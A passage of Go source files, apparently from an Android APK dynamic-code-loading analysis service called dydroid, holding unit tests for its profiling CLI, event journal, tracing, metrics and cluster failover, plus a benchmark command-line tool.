		StartAt: at, EndAt: at.Add(250 * time.Millisecond),
		Runtime: profile.RuntimeDelta{CPUNS: flatNS},
		Summary: &profile.Summary{
			Samples: 3, TotalNS: flatNS, PeriodNS: 10e6, DurationNS: 250e6,
			Top: []profile.FuncCost{
				{Func: "core.unpack", FlatNS: flatNS, CumNS: flatNS},
				{Func: "core.rewrite", FlatNS: flatNS / 4, CumNS: flatNS / 2},
			},
		},
	}
}

func TestProfileListTopDiffCommands(t *testing.T) {
	base := time.Date(2026, 8, 7, 10, 0, 0, 0, time.UTC)
	oldW := testWindow("w000001", base, 10e6)
	newW := testWindow("w000002", base.Add(time.Minute), 30e6)
	ts := profileServer(t, oldW, newW)

	var out strings.Builder
	if err := runProfile(&out, []string{"list", "-url", ts.URL}); err != nil {
		t.Fatal(err)
	}
	list := out.String()
	for _, want := range []string{"w000001", "w000002", "core.unpack", "sampler"} {
		if !strings.Contains(list, want) {
			t.Fatalf("list output missing %q:\n%s", want, list)
		}
	}

	out.Reset()
	if err := runProfile(&out, []string{"top", "-url", ts.URL, "w000002"}); err != nil {
		t.Fatal(err)
	}
	top := out.String()
	if !strings.Contains(top, "core.unpack") || !strings.Contains(top, "30ms") {
		t.Fatalf("top output:\n%s", top)
	}

	out.Reset()
	if err := runProfile(&out, []string{"diff", "-url", ts.URL, "w000001", "w000002"}); err != nil {
		t.Fatal(err)
	}
	diff := out.String()
	if !strings.Contains(diff, "core.unpack") || !strings.Contains(diff, "+200.0%") {
		t.Fatalf("diff output:\n%s", diff)
	}

	// Unknown window surfaces the server's 404.
	if err := runProfile(&out, []string{"top", "-url", ts.URL, "w999999"}); err == nil {
		t.Fatal("unknown window did not error")
	}
}

func TestProfileTopFromFile(t *testing.T) {
	win := testWindow("w000009", time.Date(2026, 8, 7, 11, 0, 0, 0, time.UTC), 20e6)
	data, err := json.Marshal(win)
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "win.json")
	if err := os.WriteFile(path, data, 0o644); err != nil {
		t.Fatal(err)
	}
	var out strings.Builder
	if err := runProfile(&out, []string{"top", path}); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out.String(), "core.unpack") || !strings.Contains(out.String(), "w000009") {
		t.Fatalf("file-mode top output:\n%s", out.String())
	}
}
