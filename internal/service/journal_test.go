package service

import (
	"context"
	"encoding/json"
	"io"
	"log/slog"
	"net/http"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/dydroid/dydroid/internal/apk"
	"github.com/dydroid/dydroid/internal/core"
	"github.com/dydroid/dydroid/internal/events"
	"github.com/dydroid/dydroid/internal/metrics"
	"github.com/dydroid/dydroid/internal/trace"
)

// fetchEvents GETs /v1/events and decodes the JSONL body.
func fetchEvents(t *testing.T, url string) []events.Event {
	t.Helper()
	resp, err := http.Get(url + "/v1/events")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("/v1/events: %d", resp.StatusCode)
	}
	if ct := resp.Header.Get("Content-Type"); !strings.HasPrefix(ct, "application/x-ndjson") {
		t.Fatalf("events content-type = %q", ct)
	}
	evs, err := events.DecodeJSONL(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return evs
}

func hasEvent(evs []events.Event, typ events.Type) bool {
	for _, e := range evs {
		if e.Type == typ {
			return true
		}
	}
	return false
}

// TestEventsEndpointAndFleetCarryJournal: journal entries serve as JSONL
// at /v1/events and ride in the /v1/fleet snapshot's events log.
func TestEventsEndpointAndFleetCarryJournal(t *testing.T) {
	s, ts := newStubServer(t, Config{Workers: 1, Node: "w1"}, nil)
	if evs := fetchEvents(t, ts.URL); len(evs) != 0 {
		t.Fatalf("fresh journal has %d events", len(evs))
	}
	s.cfg.Journal.Record(events.Event{Type: events.SlowAnalysis, Node: "w1", Digest: "aabb", Detail: "synthetic"})

	evs := fetchEvents(t, ts.URL)
	if len(evs) != 1 || evs[0].Type != events.SlowAnalysis || evs[0].Node != "w1" {
		t.Fatalf("events = %+v", evs)
	}

	resp, err := http.Get(ts.URL + "/v1/fleet")
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	var snap struct {
		Events events.Log `json:"events"`
	}
	if err := json.Unmarshal(body, &snap); err != nil {
		t.Fatal(err)
	}
	if len(snap.Events.Entries) != 1 || snap.Events.Entries[0].Type != events.SlowAnalysis {
		t.Fatalf("fleet snapshot events = %+v", snap.Events)
	}
}

// TestQueueSaturationJournalsTransitions: crossing the 80% queue mark
// journals queue-degraded once; draining below journals queue-recovered.
func TestQueueSaturationJournalsTransitions(t *testing.T) {
	release := make(chan struct{})
	started := make(chan string, 16)
	s, ts := newStubServer(t, Config{Workers: 1, QueueDepth: 5, Node: "w1"},
		func(digest string, data []byte) (*Record, error) {
			started <- digest
			<-release
			return NewRecord(digest, &core.AppResult{Package: "com.q." + digest[:4]}, nil), nil
		})

	// First submission occupies the worker; five more fill the queue to
	// 5/5, crossing the ≥80% mark.
	digests := make([]string, 0, 6)
	for i := 0; i < 6; i++ {
		body := tinyAPK(t, "com.queue.app"+string(rune('a'+i)))
		d, err := apk.SigningDigest(body)
		if err != nil {
			t.Fatal(err)
		}
		digests = append(digests, d)
		resp, _ := postScan(t, ts, body)
		if resp.StatusCode != http.StatusAccepted {
			t.Fatalf("scan %d: %d", i, resp.StatusCode)
		}
		if i == 0 {
			<-started // the worker holds job 0 before the queue fills
		}
	}
	evs := fetchEvents(t, ts.URL)
	if !hasEvent(evs, events.QueueDegraded) {
		t.Fatalf("no queue-degraded event after filling queue: %+v", evs)
	}
	if hasEvent(evs, events.QueueRecovered) {
		t.Fatal("premature queue-recovered event")
	}

	close(release)
	for _, d := range digests {
		pollResult(t, ts, d)
	}
	evs = fetchEvents(t, ts.URL)
	if !hasEvent(evs, events.QueueRecovered) {
		t.Fatalf("no queue-recovered event after drain: %+v", evs)
	}
	degradedCount := 0
	for _, e := range evs {
		if e.Type == events.QueueDegraded {
			degradedCount++
		}
	}
	if degradedCount != 1 {
		t.Fatalf("queue-degraded journaled %d times, want once", degradedCount)
	}
	_ = s
}

// TestShutdownJournalsDrain: Shutdown records drain-started and
// drain-finished exactly once each, even when called twice.
func TestShutdownJournalsDrain(t *testing.T) {
	s, err := New(Config{Analyzer: core.NewAnalyzer(core.Options{}), Workers: 1, Metrics: metrics.New(), Node: "w1"})
	if err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	if err := s.Shutdown(ctx); err != nil {
		t.Fatal(err)
	}
	if err := s.Shutdown(ctx); err != nil {
		t.Fatal(err)
	}
	log := s.cfg.Journal.Log()
	var startedN, finishedN int
	for _, e := range log.Entries {
		switch e.Type {
		case events.DrainStarted:
			startedN++
		case events.DrainFinished:
			finishedN++
		}
	}
	if startedN != 1 || finishedN != 1 {
		t.Fatalf("drain events started=%d finished=%d, want 1/1:\n%+v", startedN, finishedN, log.Entries)
	}
}

// TestWatchdogElapsedAuthoritative is the regression test for the
// disarm race: even when timer.Stop wins against the runtime after the
// deadline has already passed (so the in-flight callback never fired),
// the elapsed time decides slowness — the counter, the journal event and
// the rendered span tree must all still happen.
func TestWatchdogElapsedAuthoritative(t *testing.T) {
	var buf syncBuffer
	reg := metrics.New()
	s, err := New(Config{
		Analyzer:     core.NewAnalyzer(core.Options{}),
		Workers:      1,
		Metrics:      reg,
		SlowDeadline: time.Hour, // the real timer never fires in-test
		Node:         "w1",
		Logger:       slog.New(slog.NewTextHandler(&buf, nil)),
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { s.Shutdown(context.Background()) })

	// Fake clock: the analysis "takes" two hours between arm and disarm
	// while the wall-clock timer has no chance to expire.
	base := time.Date(2026, 8, 1, 9, 0, 0, 0, time.UTC)
	var calls atomic.Int64
	s.now = func() time.Time {
		if calls.Add(1) == 1 {
			return base
		}
		return base.Add(2 * time.Hour)
	}

	tr := trace.New("scan", trace.WithDigest("deadbeef"))
	disarm := s.armWatchdog("deadbeef")
	tr.Root.End()
	disarm(tr)

	if got := reg.Snapshot().Counters["service.slow.analyses"]; got != 1 {
		t.Fatalf("slow counter = %d, want 1", got)
	}
	evs := s.cfg.Journal.Log().Entries
	if len(evs) != 1 || evs[0].Type != events.SlowAnalysis || evs[0].Digest != "deadbeef" {
		t.Fatalf("journal = %+v, want one slow-analysis event", evs)
	}
	if !strings.Contains(evs[0].Detail, "2h0m0s") {
		t.Fatalf("slow event detail = %q, want the fake elapsed time", evs[0].Detail)
	}
	if !strings.Contains(buf.String(), "slow analysis completed") {
		t.Fatalf("no completion log line:\n%s", buf.String())
	}

	// Under the deadline nothing happens.
	calls.Store(0)
	s.cfg.Journal = events.NewJournal(0)
	fast := s.armWatchdog("cafe")
	s.now = func() time.Time { return base } // zero elapsed
	fast(tr)
	if got := reg.Snapshot().Counters["service.slow.analyses"]; got != 1 {
		t.Fatalf("fast path bumped the slow counter: %d", got)
	}
	if s.cfg.Journal.Len() != 0 {
		t.Fatal("fast path journaled a slow-analysis event")
	}
}

// TestScanParentHeaderParentsTrace: a forwarded submission's
// X-Dydroid-Parent reference lands as parent.trace/parent.span attrs on
// the stored scan root, the hook the coordinator grafts by.
func TestScanParentHeaderParentsTrace(t *testing.T) {
	traces, err := trace.OpenStore(trace.StoreOptions{})
	if err != nil {
		t.Fatal(err)
	}
	_, ts := newStubServer(t, Config{
		Analyzer: core.NewAnalyzer(core.Options{Seed: 1}),
		Workers:  1,
		Traces:   traces,
	}, nil)

	apkBytes := tinyAPK(t, "com.fwd.app")
	digest, err := apk.SigningDigest(apkBytes)
	if err != nil {
		t.Fatal(err)
	}
	req, err := http.NewRequest("POST", ts.URL+"/v1/scan", strings.NewReader(string(apkBytes)))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set(HeaderParent, "routetrace00000001:span-route-7")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	pollResult(t, ts, digest)

	stored, err := traces.Get(digest)
	if err != nil {
		t.Fatal(err)
	}
	if got := stored.Root.Attr(trace.AttrParentTrace); got != "routetrace00000001" {
		t.Fatalf("parent.trace = %q", got)
	}
	if got := stored.Root.Attr(trace.AttrParentSpan); got != "span-route-7" {
		t.Fatalf("parent.span = %q", got)
	}
}
