package service

import (
	"bytes"
	"encoding/json"
	"io"
	"log/slog"
	"net/http"
	"strings"
	"sync"
	"testing"

	"github.com/dydroid/dydroid/internal/apk"
	"github.com/dydroid/dydroid/internal/core"
	"github.com/dydroid/dydroid/internal/metrics"
	"github.com/dydroid/dydroid/internal/resultstore"
	"github.com/dydroid/dydroid/internal/trace"
)

// TestTraceHeaderAndEndpoint: every digest-resolving response carries a
// deterministic X-Dydroid-Trace header, and once the analysis lands the
// span tree is served at /v1/trace/{digest} with scan/review/analyze
// spans in one tree.
func TestTraceHeaderAndEndpoint(t *testing.T) {
	traces, err := trace.OpenStore(trace.StoreOptions{})
	if err != nil {
		t.Fatal(err)
	}
	_, ts := newStubServer(t, Config{
		Analyzer: core.NewAnalyzer(core.Options{Seed: 1}),
		Workers:  1,
		Traces:   traces,
	}, nil)

	apkBytes := tinyAPK(t, "com.trace.app")
	digest, err := apk.SigningDigest(apkBytes)
	if err != nil {
		t.Fatal(err)
	}

	// Trace endpoint 404s before any submission.
	resp, err := http.Get(ts.URL + "/v1/trace/" + digest)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusNotFound {
		t.Fatalf("trace before scan: %d, want 404", resp.StatusCode)
	}

	resp, _ = postScan(t, ts, apkBytes)
	if got := resp.Header.Get("X-Dydroid-Trace"); got != TraceID(digest) {
		t.Fatalf("scan trace header = %q, want %q", got, TraceID(digest))
	}
	pollResult(t, ts, digest)
	resp, _ = getResult(t, ts, digest)
	if got := resp.Header.Get("X-Dydroid-Trace"); got != TraceID(digest) {
		t.Fatalf("result trace header = %q, want %q", got, TraceID(digest))
	}

	resp, err = http.Get(ts.URL + "/v1/trace/" + digest)
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("trace after scan: %d %s", resp.StatusCode, body)
	}
	if ct := resp.Header.Get("Content-Type"); !strings.HasPrefix(ct, "application/json") {
		t.Fatalf("trace content-type = %q", ct)
	}
	var tr trace.Trace
	if err := json.Unmarshal(body, &tr); err != nil {
		t.Fatalf("trace body not a trace: %v\n%s", err, body)
	}
	if tr.ID != TraceID(digest) || tr.Digest != digest {
		t.Fatalf("trace identity = %q/%q, want %q/%q", tr.ID, tr.Digest, TraceID(digest), digest)
	}
	if tr.Root == nil || tr.Root.Name != "scan" {
		t.Fatalf("trace root = %+v, want scan", tr.Root)
	}
	an := tr.Root.Find("analyze")
	if an == nil {
		t.Fatal("scan trace does not cover the analysis")
	}
	// A DCL-free app short-circuits after unpack; that executed stage
	// must still be in the tree, with the outcome on the analyze span.
	if tr.Root.Find("unpack") == nil {
		t.Fatal("scan trace missing the unpack stage span")
	}
	if got := an.Attr("status"); got != "no-dcl" {
		t.Fatalf("analyze span status attr = %q, want no-dcl", got)
	}

	// Unknown digest still 404s.
	resp, err = http.Get(ts.URL + "/v1/trace/ffffffffffffffff")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusNotFound {
		t.Fatalf("unknown trace: %d, want 404", resp.StatusCode)
	}
}

// TestTraceEndpointDisabled: without a trace store the endpoint 404s
// instead of crashing.
func TestTraceEndpointDisabled(t *testing.T) {
	_, ts := newStubServer(t, Config{Workers: 1}, nil)
	resp, err := http.Get(ts.URL + "/v1/trace/aabbccdd")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusNotFound {
		t.Fatalf("trace with no store: %d, want 404", resp.StatusCode)
	}
}

// TestPprofMounted: the runtime profiling index responds under
// /debug/pprof/.
func TestPprofMounted(t *testing.T) {
	_, ts := newStubServer(t, Config{Workers: 1}, nil)
	resp, err := http.Get(ts.URL + "/debug/pprof/")
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("pprof index: %d", resp.StatusCode)
	}
	if !bytes.Contains(body, []byte("goroutine")) {
		t.Fatalf("pprof index unexpected body:\n%.400s", body)
	}
}

// TestMetriczPrometheus: ?format=prom switches the exposition to the
// Prometheus text format with dydroid_-prefixed families.
func TestMetriczPrometheus(t *testing.T) {
	reg := metrics.New()
	reg.Add("service.analyzed", 3)
	reg.Observe("service.job", 2048*1e3) // ~2ms
	store, err := resultstore.Open(resultstore.Options{Dir: t.TempDir(), Version: RecordVersion})
	if err != nil {
		t.Fatal(err)
	}
	_, ts := newStubServer(t, Config{Workers: 1, Metrics: reg, Store: store}, nil)

	resp, err := http.Get(ts.URL + "/v1/metricz?format=prom")
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("metricz prom: %d", resp.StatusCode)
	}
	if ct := resp.Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/plain") {
		t.Fatalf("prom content-type = %q", ct)
	}
	for _, want := range []string{
		"# TYPE dydroid_service_analyzed_total counter",
		"dydroid_service_analyzed_total 3",
		"# TYPE dydroid_service_job_seconds histogram",
		"dydroid_service_job_seconds_count 1",
		"dydroid_resultstore_hits_total",
	} {
		if !strings.Contains(string(body), want) {
			t.Fatalf("prom exposition missing %q:\n%s", want, body)
		}
	}
	// Default format stays the human table.
	resp, err = http.Get(ts.URL + "/v1/metricz")
	if err != nil {
		t.Fatal(err)
	}
	body, _ = io.ReadAll(resp.Body)
	resp.Body.Close()
	if !bytes.Contains(body, []byte("service.analyzed")) {
		t.Fatalf("default metricz lost the table:\n%s", body)
	}
}

// syncBuffer guards the log buffer: handler goroutines write while the
// test reads.
type syncBuffer struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (b *syncBuffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.Write(p)
}

func (b *syncBuffer) String() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.String()
}

// TestRequestLogging: with a Logger configured every request emits one
// structured line carrying method, path, status, latency, and — when the
// request resolves a digest — digest and trace ID.
func TestRequestLogging(t *testing.T) {
	var buf syncBuffer
	logger := slog.New(slog.NewJSONHandler(&buf, nil))
	traces, err := trace.OpenStore(trace.StoreOptions{})
	if err != nil {
		t.Fatal(err)
	}
	_, ts := newStubServer(t, Config{
		Analyzer: core.NewAnalyzer(core.Options{Seed: 1}),
		Workers:  1,
		Traces:   traces,
		Logger:   logger,
	}, nil)

	apkBytes := tinyAPK(t, "com.log.app")
	digest, err := apk.SigningDigest(apkBytes)
	if err != nil {
		t.Fatal(err)
	}
	postScan(t, ts, apkBytes)
	pollResult(t, ts, digest)

	type line struct {
		Msg     string  `json:"msg"`
		Method  string  `json:"method"`
		Path    string  `json:"path"`
		Status  int     `json:"status"`
		Digest  string  `json:"digest"`
		Trace   string  `json:"trace"`
		Latency float64 `json:"latency_ms"`
	}
	var scanLine, resultLine *line
	for _, raw := range strings.Split(strings.TrimSpace(buf.String()), "\n") {
		var l line
		if err := json.Unmarshal([]byte(raw), &l); err != nil {
			t.Fatalf("log line not JSON: %v\n%s", err, raw)
		}
		if l.Msg != "request" {
			continue
		}
		switch {
		case l.Method == "POST" && l.Path == "/v1/scan":
			scanLine = &l
		case l.Method == "GET" && l.Status == http.StatusOK && strings.HasPrefix(l.Path, "/v1/result/"):
			resultLine = &l
		}
	}
	if scanLine == nil {
		t.Fatalf("no scan request logged:\n%s", buf.String())
	}
	if scanLine.Status != http.StatusAccepted || scanLine.Digest != digest || scanLine.Trace != TraceID(digest) {
		t.Fatalf("scan log line = %+v", scanLine)
	}
	if scanLine.Latency < 0 {
		t.Fatalf("scan latency = %v", scanLine.Latency)
	}
	if resultLine == nil {
		t.Fatalf("no 200 result request logged:\n%s", buf.String())
	}
	if resultLine.Digest != digest || resultLine.Trace != TraceID(digest) {
		t.Fatalf("result log line = %+v", resultLine)
	}
}
