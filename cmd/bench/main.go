// Command bench runs the recorded-trajectory benchmark harness and
// compares trajectory points.
//
//	bench run  [-name NAME] [-seed N] [-scale F] [-workers N] [-stream=BOOL] [-out FILE]
//	bench diff [-threshold PCT] [-fail-fold N] OLD.json NEW.json
//
// `bench run` executes the measurement pipeline over a fixed-seed corpus
// and prints a human-readable table. With -out it writes the
// schema-versioned JSON trajectory point to that file; without -out it
// records the next committed point — it auto-numbers BENCH_<n>.json in
// the current directory and prints the headline-metric diff against the
// previous point. `bench diff` loads two trajectory points and reports
// every metric that regressed beyond the threshold; it exits 1 when
// regressions are found so CI can branch on it. With -fail-fold N the
// threshold findings become warnings and only a headline metric
// collapsing by N times or more (bench.FoldGate) fails the command.
package main

import (
	"flag"
	"fmt"
	"os"

	"github.com/dydroid/dydroid/internal/bench"
)

func main() {
	if len(os.Args) < 2 {
		usage()
		os.Exit(2)
	}
	switch os.Args[1] {
	case "run":
		cmdRun(os.Args[2:])
	case "diff":
		cmdDiff(os.Args[2:])
	default:
		fmt.Fprintf(os.Stderr, "bench: unknown command %q\n", os.Args[1])
		usage()
		os.Exit(2)
	}
}

func usage() {
	fmt.Fprintln(os.Stderr, `usage:
  bench run  [-name NAME] [-seed N] [-scale F] [-workers N] [-stream=BOOL] [-out FILE]
  bench diff [-threshold PCT] [-fail-fold N] OLD.json NEW.json`)
}

func cmdRun(args []string) {
	fs := flag.NewFlagSet("bench run", flag.ExitOnError)
	name := fs.String("name", "trajectory", "label recorded in the result")
	seed := fs.Int64("seed", 2016, "corpus generation seed")
	scale := fs.Float64("scale", 0.02, "marketplace scale (1.0 = 58,739 apps)")
	workers := fs.Int("workers", 0, "pipeline parallelism (0 = GOMAXPROCS)")
	stream := fs.Bool("stream", true, "consume the corpus via the streaming producer")
	out := fs.String("out", "", "write the JSON point here (default: auto-number BENCH_<n>.json and diff vs the previous point)")
	fs.Parse(args)

	target, prev := *out, ""
	if target == "" {
		var err error
		target, prev, err = bench.NextTrajectory(".")
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(1)
		}
	}

	res, err := bench.Run(bench.Config{Name: *name, Seed: *seed, Scale: *scale, Workers: *workers, Stream: *stream})
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	fmt.Print(res.Table())
	if err := res.WriteFile(target); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	fmt.Printf("\nwrote %s\n", target)
	if prev != "" {
		base, err := bench.ReadFile(prev)
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(1)
		}
		fmt.Printf("\nvs %s:\n%s", prev, bench.Compare(base, res))
	}
}

func cmdDiff(args []string) {
	fs := flag.NewFlagSet("bench diff", flag.ExitOnError)
	threshold := fs.Float64("threshold", bench.DefaultRegressionPct, "regression threshold in percent")
	failFold := fs.Float64("fail-fold", 0, "fail only on headline metrics regressing by this factor or more (0 = fail on any threshold regression)")
	fs.Parse(args)
	if fs.NArg() != 2 {
		usage()
		os.Exit(2)
	}
	base, err := bench.ReadFile(fs.Arg(0))
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	head, err := bench.ReadFile(fs.Arg(1))
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	fmt.Print(bench.Compare(base, head))
	regs := bench.Diff(base, head, *threshold)
	if len(regs) == 0 {
		fmt.Printf("no regressions beyond %.1f%% (%s -> %s)\n", *threshold, fs.Arg(0), fs.Arg(1))
	} else {
		fmt.Printf("%d regression(s) beyond %.1f%% (%s -> %s):\n", len(regs), *threshold, fs.Arg(0), fs.Arg(1))
		for _, g := range regs {
			fmt.Printf("  %s\n", g)
		}
	}
	if *failFold > 0 {
		// Threshold findings above were informational; only a fold-scale
		// collapse in a headline metric blocks.
		gated := bench.FoldGate(base, head, *failFold)
		if len(gated) > 0 {
			fmt.Printf("%d headline metric(s) regressed %.3gx or worse:\n", len(gated), *failFold)
			for _, g := range gated {
				fmt.Printf("  %s\n", g)
			}
			os.Exit(1)
		}
		return
	}
	if len(regs) > 0 {
		os.Exit(1)
	}
}
