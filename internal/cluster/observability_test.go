package cluster

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/dydroid/dydroid/internal/apk"
	"github.com/dydroid/dydroid/internal/core"
	"github.com/dydroid/dydroid/internal/events"
	"github.com/dydroid/dydroid/internal/trace"
)

// fetchClusterEvents GETs a coordinator's (or worker's) /v1/events JSONL.
func fetchClusterEvents(t *testing.T, base string) []events.Event {
	t.Helper()
	resp, err := http.Get(base + "/v1/events")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("/v1/events: %d", resp.StatusCode)
	}
	if ct := resp.Header.Get("Content-Type"); !strings.HasPrefix(ct, "application/x-ndjson") {
		t.Fatalf("events content-type = %q", ct)
	}
	evs, err := events.DecodeJSONL(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return evs
}

func findEvent(evs []events.Event, typ events.Type, node string) *events.Event {
	for i := range evs {
		if evs[i].Type == typ && (node == "" || evs[i].Node == node) {
			return &evs[i]
		}
	}
	return nil
}

// apkOwnedBy generates archives until one's signing digest is placed on
// the wanted ring member, returning the archive and its digest.
func apkOwnedBy(t *testing.T, ring *Ring, owner, prefix string) ([]byte, string) {
	t.Helper()
	for i := 0; i < 4096; i++ {
		data := tinyAPK(t, fmt.Sprintf("%s%d", prefix, i))
		digest, err := apk.SigningDigest(data)
		if err != nil {
			t.Fatal(err)
		}
		if ring.Owner(digest) == owner {
			return data, digest
		}
	}
	t.Fatalf("no generated digest owned by %s", owner)
	return nil, ""
}

// TestScanResponsesNameServingNode is the header-whitelist regression
// test: every proxied scan answer names its actual serving node in
// X-Dydroid-Node — on the direct path and after a request-level
// failover, where the header must name the successor, never the dead
// owner and never be empty.
func TestScanResponsesNameServingNode(t *testing.T) {
	a, b := newStubNode(t), newStubNode(t)
	_, ts, _ := newTestCoordinator(t,
		Config{ProbeInterval: time.Hour, ProbeFailures: 100, MaxAttempts: 2}, a, b)
	ring := expectedRing(a, b)
	byName := map[string]*stubNode{a.name(): a, b.name(): b}

	// Direct path: the header names the ring owner that recorded the scan.
	data, digest := apkOwnedBy(t, ring, a.name(), "com.header.direct")
	resp := postScanC(t, ts.URL, data)
	io.Copy(io.Discard, resp.Body)
	if got := resp.Header.Get("X-Dydroid-Node"); got != a.name() {
		t.Fatalf("direct scan X-Dydroid-Node = %q, want owner %s", got, a.name())
	}
	if a.scanned(digest) != 1 {
		t.Fatal("named node did not perform the scan")
	}

	// Failover path: kill the owner; the relayed answer must name the
	// successor that actually served it.
	victim, survivor := a, b
	data, digest = apkOwnedBy(t, ring, victim.name(), "com.header.failover")
	victim.ts.Close()
	resp = postScanC(t, ts.URL, data)
	io.Copy(io.Discard, resp.Body)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("failover scan: %d", resp.StatusCode)
	}
	got := resp.Header.Get("X-Dydroid-Node")
	if got == "" || got == victim.name() {
		t.Fatalf("failover scan X-Dydroid-Node = %q, want the live successor", got)
	}
	if byName[got] != survivor || survivor.scanned(digest) != 1 {
		t.Fatalf("header names %q but survivor scan count = %d", got, survivor.scanned(digest))
	}
}

// TestCoordinatorEventsFederation: GET /v1/events on the coordinator
// merges member journals with its own lifecycle events, and the
// federated /v1/fleet snapshot carries the same timeline. A member that
// stops answering contributes nothing — but its ejection appears in the
// coordinator's own journal, so the outage itself is on the timeline.
func TestCoordinatorEventsFederation(t *testing.T) {
	a, b := newStubNode(t), newStubNode(t)
	a.mu.Lock()
	a.journal = []events.Event{{
		Time: time.Date(2026, 8, 1, 10, 0, 0, 0, time.UTC),
		Type: events.SlowAnalysis, Node: a.name(), Digest: "feedface", Detail: "synthetic",
	}}
	a.mu.Unlock()
	coord, ts, _ := newTestCoordinator(t,
		Config{ProbeInterval: 10 * time.Millisecond, ProbeFailures: 2}, a, b)

	// Member journals federate.
	evs := fetchClusterEvents(t, ts.URL)
	if ev := findEvent(evs, events.SlowAnalysis, a.name()); ev == nil || ev.Digest != "feedface" {
		t.Fatalf("member journal missing from federated events: %+v", evs)
	}

	// Eject b: the coordinator's own journal joins the merged timeline.
	b.setFailHealthz(true)
	waitFor(t, "ejection", func() bool { return !nodeStatus(coord, b.name()).Healthy })
	evs = fetchClusterEvents(t, ts.URL)
	if findEvent(evs, events.NodeEjected, b.name()) == nil {
		t.Fatalf("no node-ejected event for %s: %+v", b.name(), evs)
	}
	// Refetching must not duplicate: the merge dedups identical entries.
	again := fetchClusterEvents(t, ts.URL)
	slow := 0
	for _, e := range again {
		if e.Type == events.SlowAnalysis {
			slow++
		}
	}
	if slow != 1 {
		t.Fatalf("slow-analysis duplicated %d times across refetch", slow)
	}

	// Rejoin lands on the timeline too.
	b.setFailHealthz(false)
	waitFor(t, "rejoin", func() bool { return nodeStatus(coord, b.name()).Healthy })
	evs = fetchClusterEvents(t, ts.URL)
	if findEvent(evs, events.NodeRejoined, b.name()) == nil {
		t.Fatalf("no node-rejoined event for %s", b.name())
	}

	// The federated fleet snapshot carries the same events log.
	resp, err := http.Get(ts.URL + "/v1/fleet")
	if err != nil {
		t.Fatal(err)
	}
	var fr FleetResponse
	if err := json.NewDecoder(resp.Body).Decode(&fr); err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if findEvent(fr.Snapshot.Events.Entries, events.NodeEjected, b.name()) == nil {
		t.Fatalf("fleet snapshot events missing node-ejected: %+v", fr.Snapshot.Events.Entries)
	}
}

// TestStitchedTraceAcrossFailover is the end-to-end tentpole check over
// real HTTP processes: the owner of a digest is killed, the scan fails
// over, and the coordinator's GET /v1/trace/{digest} returns ONE tree —
// the route span with a failed attempt (error recorded), the successor
// attempt, and the surviving worker's full analysis subtree grafted
// under the attempt span whose ID traveled in X-Dydroid-Parent. The
// reroute is visible in the trace and on the ops timeline, not silent.
func TestStitchedTraceAcrossFailover(t *testing.T) {
	queue := 16
	_, ts0 := realWorker(t, core.NewAnalyzer(core.Options{}), queue)
	_, ts1 := realWorker(t, core.NewAnalyzer(core.Options{}), queue)
	ring := NewRing(0)
	ring.Add(ts0.URL)
	ring.Add(ts1.URL)

	coord, err := New(Config{
		Nodes:         []string{ts0.URL, ts1.URL},
		ProbeInterval: time.Hour, // forward failures alone drive this test
		ProbeFailures: 100,       // keep the dead node in the ring: its failed attempt must stay first
		MaxAttempts:   2,
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(coord.Close)
	cts := httptest.NewServer(coord.Handler())
	t.Cleanup(cts.Close)

	data, digest := apkOwnedBy(t, ring, ts0.URL, "com.stitch.app")
	ts0.Close()

	resp := postScanC(t, cts.URL, data)
	io.Copy(io.Discard, resp.Body)
	if resp.StatusCode != http.StatusOK && resp.StatusCode != http.StatusAccepted {
		t.Fatalf("failover scan: %d", resp.StatusCode)
	}
	if got := resp.Header.Get("X-Dydroid-Node"); got != ts1.URL {
		t.Fatalf("scan served by %q, want survivor %s", got, ts1.URL)
	}
	awaitAll(t, cts.URL, []string{digest})

	// One stitched tree from the coordinator.
	tresp, err := http.Get(cts.URL + "/v1/trace/" + digest)
	if err != nil {
		t.Fatal(err)
	}
	if tresp.StatusCode != http.StatusOK {
